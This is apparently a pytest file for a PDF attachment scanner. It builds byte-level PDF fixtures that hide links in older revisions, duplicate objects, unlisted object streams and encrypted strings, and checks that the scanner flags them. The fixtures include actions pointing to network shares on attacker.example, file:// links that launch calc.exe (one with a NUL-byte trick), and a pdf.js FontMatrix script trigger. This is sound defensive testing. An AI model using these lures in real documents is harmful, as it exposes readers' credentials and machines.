"""PdfEngine: a link to a network share in a definition pypdf's reading does not use (an older
revision, the other of two duplicates, an object the cross-reference leaves out, one in an
object stream nothing lists) is EXTERNAL_LINK, as it is in pypdf's reading; a web address there
is a plain link. Fixtures are built here byte by byte (`test_pdf_readings.Pdf`)."""

from __future__ import annotations

from io import BytesIO

import pytest
from pypdf import PdfWriter
from pypdf.generic import DictionaryObject, NameObject, TextStringObject

from attachguard.policy import Policy
from test_pdf_readings import Pdf, codes, encrypted_with_hidden_object_stream, found, packed, scan

WEB = b"<< /S /URI /URI (https://shop.example/orders/4711) >>"
SHARE_URI = b"<< /S /URI /URI (\\\\\\\\attacker.example\\\\share\\\\invoice.pdf) >>"
SHARE_ACTIONS = [
    SHARE_URI,
    b"<< /S /URI /URI (file://attacker.example/share/invoice.pdf) >>",
    b"<< /S /GoToR /F (\\\\\\\\attacker.example\\\\share\\\\invoice.pdf) /D [0 /Fit] >>",
    b"<< /S /GoToE /F << /Type /Filespec /UF (//attacker.example/share/a.pdf) >> /T << >> >>",
    b"<< /S /ImportData /F << /DOS (\\\\\\\\attacker.example\\\\share\\\\data.fdf) >> >>",
    b"<< /S /SubmitForm /F << /FS /URL /F (file://attacker.example/share/in) >> >>",
    b"<< /S /Thread /F (/attacker.example/share/story.pdf) /D 0 >>",
]
LINK = b"<< /Type /Annot /Subtype /Link /F 4 /Rect [72 700 300 730] /A 7 0 R >>"


def linked(action: bytes) -> Pdf:
    """A one-page PDF whose link annotation (object 6) runs action 7."""
    pdf = Pdf().page()
    pdf.add(3, b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Annots [6 0 R] >>")
    pdf.add(6, LINK)
    pdf.add(7, action)
    return pdf


def older_revision(old: bytes, new: bytes) -> tuple[bytes, int]:
    """A PDF whose action 7 is ``old``, then ``new`` in an incremental update; and where the
    older definition is."""
    pdf = linked(old)
    at = pdf.offsets[7]
    pdf.xref()
    pdf.add(7, new)
    return pdf.xref().bytes(), at


@pytest.mark.parametrize("action", SHARE_ACTIONS)
def test_link_to_a_share_in_an_older_revision(policy: Policy, action: bytes) -> None:
    """Acrobat shows a signed revision on request, with its links."""
    data, at = older_revision(action, WEB)
    where = f"object 7 (another definition, at offset {at})"
    assert found(scan(data, policy)) == {("EXTERNAL_LINK", where)}


def test_the_same_link_in_pypdfs_reading_is_reported_there(policy: Policy) -> None:
    """The control: in pypdf's reading the same action is EXTERNAL_LINK where it is read."""
    data, _ = older_revision(WEB, SHARE_URI)
    assert codes(scan(data, policy)) == {"EXTERNAL_LINK"}


@pytest.mark.parametrize("xref_takes", ["first", "last"])
def test_link_to_a_share_in_the_duplicate_the_xref_does_not_take(
    policy: Policy, xref_takes: str
) -> None:
    pdf = linked(WEB if xref_takes == "first" else SHARE_URI)
    first = pdf.offsets[7]
    last = pdf.add(7, SHARE_URI if xref_takes == "first" else WEB)
    pdf.xref({**pdf.offsets, 7: first if xref_takes == "first" else last})
    hidden = last if xref_takes == "first" else first
    where = f"object 7 (another definition, at offset {hidden})"
    assert found(scan(pdf.bytes(), policy)) == {("EXTERNAL_LINK", where)}


def test_file_specification_on_a_share_the_xref_leaves_out(policy: Policy) -> None:
    """Nothing refers to it (pypdf's reading would find it by searching the file if anything
    did); a reader that rebuilds the cross-reference lists it."""
    pdf = linked(WEB)
    listed = dict(pdf.offsets)
    pdf.add(9, b"<< /Type /Filespec /Unix (//attacker.example/share/run) >>")
    result = scan(pdf.xref(listed).bytes(), policy)
    assert found(result) == {("EXTERNAL_LINK", "hidden object 9")}


def test_base_uri_on_a_share_in_an_older_catalog(policy: Policy) -> None:
    """Relative links resolve against a document's base URI."""
    pdf = Pdf().page(b" /URI << /Base (file://attacker.example/share/) >>")
    at = pdf.offsets[1]
    pdf.xref()
    pdf.add(1, b"<< /Type /Catalog /Pages 2 0 R /URI << /Base (https://shop.example/) >> >>")
    result = scan(pdf.xref().bytes(), policy)
    where = f"object 1 (another definition, at offset {at})"
    assert found(result) == {("EXTERNAL_LINK", where)}


def test_link_to_a_share_in_an_object_stream_nothing_lists(policy: Policy) -> None:
    pdf = linked(WEB)
    listed = dict(pdf.offsets)
    pdf.add(8, packed({9: SHARE_URI}))
    result = scan(pdf.xref(listed).bytes(), policy)
    assert found(result) == {("EXTERNAL_LINK", "hidden object 9")}


def test_encrypted_files_hidden_object_stream_is_read_for_links(policy: Policy) -> None:
    data = encrypted_with_hidden_object_stream(SHARE_URI)
    assert b"attacker" not in data
    assert codes(scan(data, policy)) == {"EXTERNAL_LINK"}


def encrypted_link_then_replaced(uri: str) -> bytes:
    """An encrypted PDF (empty user password) with a URI action to ``uri``, then
    an incremental update (pypdf writes none for an encrypted file) replacing it by a GoTo."""
    writer = PdfWriter()
    writer.add_blank_page(200, 200)
    action = DictionaryObject(
        {NameObject("/S"): NameObject("/URI"), NameObject("/URI"): TextStringObject(uri)}
    )
    number = writer._add_object(action).idnum
    writer.encrypt(user_password="", owner_password="owner", algorithm="AES-128")
    out = BytesIO()
    writer.write(out)
    data = out.getvalue()
    trailer = data[data.rindex(b"trailer") + 7 : data.rindex(b">>")]  # its dictionary, unclosed
    prev = int(data[data.rindex(b"startxref") + 9 :].split()[0])
    at = len(data)
    data += b"%d 0 obj\n<< /S /GoTo /D [0 /Fit] >>\nendobj\n" % number
    start = len(data)
    data += b"xref\n0 1\n0000000000 65535 f \n%d 1\n%010d 00000 n \n" % (number, at)
    data += b"trailer\n%s /Prev %d >>\n" % (trailer, prev)
    return data + b"startxref\n%d\n%%%%EOF\n" % start


@pytest.mark.parametrize(
    ("uri", "expected"),
    [("\\\\attacker.example\\share\\x.pdf", {"EXTERNAL_LINK"}), ("https://shop.example/", set())],
)
def test_older_revision_of_an_encrypted_file_is_decrypted(
    policy: Policy, uri: str, expected: set[str]
) -> None:
    """Strings are encrypted object by object: an older definition is read with its key."""
    data = encrypted_link_then_replaced(uri)
    assert b"example" not in data
    assert codes(scan(data, policy)) == expected


@pytest.mark.parametrize(
    "action",
    [b"<< /S /URI /URI 9 0 R >>", b"<< /S /URI /#55RI % the target\n9 0 R >>"],
)
def test_reference_in_a_link_to_an_older_definition_on_a_share(
    policy: Policy, action: bytes
) -> None:
    """The action pypdf reads gives its URI by reference; the older definition of that
    object is a path to a share, which a reader taking that revision follows."""
    pdf = linked(action)
    pdf.add(9, b"(\\\\\\\\attacker.example\\\\share\\\\invoice.pdf)")
    pdf.xref()
    pdf.add(9, b"(https://shop.example/orders/4711)")
    result = scan(pdf.xref().bytes(), policy)
    assert found(result) == {("EXTERNAL_LINK", "object 7")}


# -- benign look-alikes ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    "old",
    [
        b"<< /S /URI /URI (https://shop.example/orders/4710) >>",
        b"<< /S /GoToR /F (statements/2024.pdf) /D [0 /Fit] >>",
        b"<< /S /GoToR /F (/C/Docs/2024.pdf) /D [0 /Fit] >>",
        b"<< /S /URI /URI (/texmf/tex/latex/readme.html) >>",
    ],
)
def test_ordinary_link_in_an_older_revision_is_approved(policy: Policy, old: bytes) -> None:
    data, _ = older_revision(old, WEB)
    assert scan(data, policy).findings == []


def test_reference_to_an_older_definition_that_is_a_web_address(policy: Policy) -> None:
    pdf = linked(b"<< /S /URI /URI 9 0 R >>")
    pdf.add(9, b"(https://shop.example/orders/4710)")
    pdf.xref()
    pdf.add(9, b"(https://shop.example/orders/4711)")
    assert scan(pdf.xref().bytes(), policy).findings == []


def test_attached_files_name_in_an_older_revision_is_no_link(policy: Policy) -> None:
    """An attached file's specification is opened from its embedded copy (as in pypdf's
    reading): its /F is a name, whatever it looks like."""
    spec = b"<< /Type /Filespec /F (\\\\\\\\host\\\\x.txt) /EF << /F 8 0 R >> >>"
    pdf = Pdf().page(b" /Names << /EmbeddedFiles << /Names [(x.txt) 7 0 R] >> >>")
    pdf.add(7, spec)
    pdf.add(8, b"<< /Type /EmbeddedFile /Length 2 >>\nstream\nhi\nendstream")
    pdf.xref()
    pdf.add(7, spec.replace(b"\\\\\\\\host\\\\", b""))
    assert "EXTERNAL_LINK" not in codes(scan(pdf.xref().bytes(), policy))


# -- references through definitions that are references -------------------------------------


def bare_references(old_links: dict[int, bytes], new: bytes = b"(https://shop.example/a)") -> Pdf:
    """A PDF whose action 7 gives its URI by reference to object 9; objects ``old_links``
    defined, then each redefined as ``new`` in an incremental update."""
    pdf = linked(b"<< /S /URI /URI 9 0 R >>")
    for number, body in old_links.items():
        pdf.add(number, body)
    pdf.xref()
    for number in old_links:
        pdf.add(number, new)
    return pdf.xref()


def test_a_share_two_hidden_references_deep(policy: Policy) -> None:
    """Object 9's older definition is ``10 0 R``, object 10's older definition the share: a
    reader taking the older revision resolves both."""
    share = b"(\\\\\\\\attacker.example\\\\share\\\\invoice.pdf)"
    pdf = bare_references({9: b"10 0 R", 10: share})
    assert found(scan(pdf.bytes(), policy)) == {("EXTERNAL_LINK", "object 7")}


def test_a_chain_of_references_past_the_bound_is_not_passed(policy: Policy) -> None:
    share = b"(\\\\\\\\attacker.example\\\\share\\\\invoice.pdf)"
    chain = {9 + n: b"%d 0 R" % (10 + n) for n in range(20)}
    pdf = bare_references({**chain, 29: share})
    assert ("CORRUPT", "object 7") in found(scan(pdf.bytes(), policy))


@pytest.mark.parametrize(
    "old",
    [{9: b"10 0 R", 10: b"(https://shop.example/orders/4710)"}, {9: b"10 0 R", 10: b"9 0 R"}],
    ids=["web-address", "cycle"],
)
def test_hidden_references_to_no_share_are_approved(policy: Policy, old: dict[int, bytes]) -> None:
    pdf = bare_references(old)
    assert scan(pdf.bytes(), policy).findings == []


# -- review 92: links to a program on the reader's computer, in every reading -----------------


@pytest.mark.parametrize(
    "action",
    [
        b"<< /S /URI /URI (file:///C:/Windows/System32/calc.exe) >>",
        b"<< /S /URI /URI (file:///C:/Windows/System32/calc.exe%00.pdf) >>",  # cut at the NUL
        b"<< /S /URI /URI (file:///C:/Windows/System32/calc.exe/) >>",
    ],
)
def test_a_link_to_a_local_program_in_an_older_revision_launches_it(
    policy: Policy, action: bytes
) -> None:
    data, at = older_revision(action, WEB)
    where = f"object 7 (another definition, at offset {at})"
    assert ("PDF_LAUNCH", where) in found(scan(data, policy))
    assert codes(scan(linked(action).xref().bytes(), policy)) == {"PDF_LAUNCH"}


def test_a_local_base_uri_launches_the_relative_links(policy: Policy) -> None:
    pdf = Pdf().page(b" /URI << /Base (file:///C:/Windows/System32/) >>")
    assert codes(scan(pdf.xref().bytes(), policy)) == {"PDF_LAUNCH"}


def test_a_font_matrix_pdfjs_runs_in_an_older_revision_is_javascript(policy: Policy) -> None:
    font = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /FontMatrix [1 0 0 1 0 (x)] >>"
    pdf = Pdf().page()
    pdf.add(9, font)
    at = pdf.offsets[9]
    pdf.xref()
    pdf.add(9, font.replace(b"(x)", b"0"))
    result = found(scan(pdf.xref().bytes(), policy))
    assert ("PDF_JAVASCRIPT", f"object 9 (another definition, at offset {at})") in result
